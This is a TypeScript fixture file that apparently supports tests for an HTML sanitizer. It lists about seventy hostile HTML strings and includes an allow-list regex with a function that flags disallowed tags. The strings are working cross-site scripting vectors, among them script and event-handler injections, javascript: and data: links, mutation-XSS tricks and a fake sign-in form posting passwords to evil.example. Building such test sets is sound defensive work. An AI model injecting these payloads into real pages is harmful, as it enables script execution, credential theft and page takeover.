/**
 * HTML that wants to run a script, send a request or take a page over. Each calls `hit()` if it succeeds, or asks
 * `https://evil.example` for something. By the way it tries.
 */
export const hostileHtml: Readonly<Record<string, string>> = {
  "a script": "<script>hit()</script>",
  "a script in capitals": "<SCRIPT>hit()</SCRIPT>",
  "a script from elsewhere": '<script src="https://evil.example/x.js"></script>',
  "a script that is not closed": "<script>hit()",
  "a script within a script": "<scr<script>ipt>hit()</scr</script>ipt>",
  "a script with a slash": "<script/x>hit()</script>",
  "a script behind a null": "<scr\u0001ipt>hit()</script>",
  "a script as a module": '<script type="module">hit()</script>',
  "an image that fails": '<img src="x" onerror="hit()">',
  "an image without quotes": "<img src=x onerror=hit()>",
  "an image with slashes for spaces": "<img/src=x/onerror=hit()>",
  "an image with a grave accent": "<img src=`x` onerror=hit()>",
  "an image that is not closed": '<img src="x" onerror="hit()"',
  "an image from elsewhere": '<img src="https://evil.example/pixel.gif">',
  "an image by srcset": '<img srcset="https://evil.example/a.png 1x">',
  "an svg that loads": "<svg onload=hit()>",
  "an svg with a script": "<svg><script>hit()</script></svg>",
  "an svg that animates": "<svg><animate onbegin=hit() attributeName=x dur=1s></svg>",
  "an svg with an address": '<svg><a xlink:href="javascript:hit()"><text y="20">x</text></a></svg>',
  "an svg that uses another": '<svg><use href="https://evil.example/x.svg#x"></use></svg>',
  "an svg with a foreign object":
    "<svg><foreignObject><img src=x onerror=hit()></foreignObject></svg>",
  "math with an address": '<math href="javascript:hit()">x</math>',
  "math that mutates":
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=hit()&gt;">',
  "a noscript that mutates": '<noscript><p title="</noscript><img src=x onerror=hit()>">',
  "a style that mutates": "<style><style/><img src=x onerror=hit()>",
  "a title that mutates": '<title><a title="</title><img src=x onerror=hit()>">',
  "a template": "<template><img src=x onerror=hit()></template>",
  "a comment that ends early": "<!--><img src=x onerror=hit()>-->",
  "a conditional comment": "<!--[if gte IE 4]><script>hit()</script><![endif]-->",
  "a CDATA section": "<![CDATA[<img src=x onerror=hit()>]]>",
  "a frame": '<iframe src="javascript:hit()"></iframe>',
  "a frame with a document": '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  "a frame from elsewhere": '<iframe src="https://evil.example/"></iframe>',
  "an object": '<object data="javascript:hit()"></object>',
  "an embed": '<embed src="javascript:hit()">',
  "a link to a script": '<a href="javascript:hit()">press</a>',
  "a link in mixed letters": '<a href="JaVaScRiPt:hit()">press</a>',
  "a link behind a space": '<a href=" javascript:hit()">press</a>',
  "a link with a line in it": '<a href="java\nscript:hit()">press</a>',
  "a link with a tab in it": '<a href="java&#9;script:hit()">press</a>',
  "a link in entities": '<a href="&#106;&#97;vascript:hit()">press</a>',
  "a link in entities without ends": '<a href="&#0000106&#0000097vascript:hit()">press</a>',
  "a link behind a control character": '<a href="\u0001javascript:hit()">press</a>',
  "a link to data": '<a href="data:text/html,<script>hit()</script>">press</a>',
  "a link to base64": '<a href="data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==">press</a>',
  "a link to vbscript": '<a href="vbscript:hit()">press</a>',
  "a link to a file": '<a href="file:///etc/passwd">press</a>',
  "a link to a blob": '<a href="blob:https://evil.example/1">press</a>',
  "a link that is watched":
    '<a href="https://example.com" onclick="hit()" ping="https://evil.example">press</a>',
  "a link that names no scheme": '<a href="//evil.example/">press</a>',
  "a paragraph with a style": "<p style=\"background:url('https://evil.example/x')\">text</p>",
  "a paragraph over everything":
    '<p style="position:fixed;inset:0;z-index:9999" class="dialog" id="root">text</p>',
  "a paragraph that is watched":
    '<p onmouseover="hit()" onfocus="hit()" tabindex="0" autofocus>text</p>',
  "a style sheet": "<style>@import 'https://evil.example/x.css';</style>",
  "a linked style sheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
  "a refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  "a base": '<base href="https://evil.example/">',
  "a form":
    '<form action="https://evil.example/"><input name="password"><button>Sign in</button></form>',
  "an input that takes the focus": "<input autofocus onfocus=hit()>",
  "a select": "<select autofocus onfocus=hit()><option>x</select>",
  "details that open": "<details open ontoggle=hit()><summary>x</summary></details>",
  "a video": '<video src="x" onerror="hit()"><source onerror="hit()"></video>',
  "a marquee": "<marquee onstart=hit()>x</marquee>",
  "a table": '<table background="javascript:hit()"><tr><td onclick="hit()">x</td></tr></table>',
  "a button with a form": '<button formaction="javascript:hit()">x</button>',
  "markup in an attribute": '<p title="&quot;><script>hit()</script>">text</p>',
  "encoded once": "&lt;script&gt;hit()&lt;/script&gt;",
  "encoded twice": "&amp;lt;script&amp;gt;hit()&amp;lt;/script&amp;gt;",
  "an element of nobody": '<x onclick="hit()" tabindex="1" autofocus onfocus="hit()">x</x>',
  "a slot for the page's own names":
    '<a id="location" name="body" href="https://example.com">x</a>',
};

/** What may stand in a stored content: these elements, and no attribute but those of a safe link. */
const allowedTag =
  /^<(?:\/(?:p|h2|h3|h4|table|thead|tbody|tr|th|td|ul|ol|li|strong|em|a|blockquote|pre|code)|(?:p|h2|h3|h4|table|thead|tbody|tr|th|td|ul|ol|li|strong|em|blockquote|pre|code)|br \/|hr \/|a(?: href="(?:https?:|mailto:)[^"<>]*")? target="_blank" rel="noopener noreferrer"|a href="" target="_blank" rel="noopener noreferrer")>$/;

/** The tags in it that have no business there. */
export const strangeTagsIn = (html: string): string[] =>
  (html.match(/<[^>]*>?/g) ?? []).filter((tag) => !allowedTag.test(tag));
